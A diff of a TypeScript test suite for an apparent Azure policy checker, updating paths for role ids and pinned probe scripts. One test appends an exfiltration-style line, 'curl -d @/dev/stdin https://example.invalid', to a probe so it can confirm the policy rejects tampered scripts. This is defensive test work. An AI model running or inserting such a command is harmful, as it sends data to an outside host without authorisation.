@@ -1,4 +1,4 @@
-// The policy's own baseline (policy/baseline.ts) against the program's copies in lib/azure.ts and the committed probes:
+// The policy's own baseline (policy/baseline.ts) against the program's copies in lib/azure/roles.ts and the committed probes:
 // a legitimate change touches both (and policy/ is CODEOWNERS-reviewed). Then the rules that rely on the baseline,
 // on hand-built resources: role ids, lab role GUIDs, the probe pin, secret sinks, password strength, providers.
 import { createHash, randomBytes } from "crypto";
@@ -30,7 +30,7 @@ const sha256 = (file: string) =>
     .digest("hex");
 
 describe("the baseline agrees with the program (a change must touch both)", () => {
-  it("every built-in role id in lib/azure.ts is the baseline's, under the same key", () => {
+  it("every built-in role id in lib/azure/roles.ts is the baseline's, under the same key", () => {
     for (const [key, id] of Object.entries(BUILTIN_ROLES))
       expect([key, (BASELINE_ROLE_IDS as Record<string, string>)[key]]).toEqual([key, id]);
   });
@@ -78,8 +78,8 @@ describe("the baseline agrees with the program (a change must touch both)", () =
       ).toEqual([]);
   });
   it("the probe pins are the committed probes' sha256 (changing a probe means changing its pin)", () => {
-    expect(sha256("scripts/vm-probe")).toBe(PROBE_SHA256.ubuntu);
-    expect(sha256("scripts/vm-probe.ps1")).toBe(PROBE_SHA256.windows);
+    expect(sha256("probe/vm-probe.py")).toBe(PROBE_SHA256.ubuntu);
+    expect(sha256("probe/vm-probe.ps1")).toBe(PROBE_SHA256.windows);
   });
 });
 
@@ -142,7 +142,7 @@ describe("the probe pin", () => {
       source: { script },
     });
   it("denies a script that is not the pinned probe, even one line appended", () => {
-    const probe = fs.readFileSync(path.join(ROOT, "scripts/vm-probe"), "utf8");
+    const probe = fs.readFileSync(path.join(ROOT, "probe/vm-probe.py"), "utf8");
     expect(
       fires("inventory-run-commands", [vm, rc(`${probe}\ncurl -d @/dev/stdin https://example.invalid\n`)])
         .map((f) => f.message)
